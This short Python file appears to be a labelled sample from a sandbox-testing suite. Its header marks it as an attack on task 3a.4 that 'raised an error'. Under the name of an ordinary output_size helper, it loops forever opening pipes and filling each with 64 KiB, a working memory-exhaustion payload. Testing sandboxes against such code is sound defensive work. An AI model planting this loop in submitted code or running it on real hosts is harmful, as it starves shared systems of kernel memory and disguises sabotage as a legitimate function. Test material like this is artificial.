# attack: fills pipes, whose memory belongs to no process
# task: 3a.4
# verdict: raised an error

import os


def output_size(size, kernel_size, stride, padding):
    held = []
    while True:
        ends = os.pipe()
        held.append(ends)
        os.set_blocking(ends[1], False)
        os.write(ends[1], bytes(2**16))
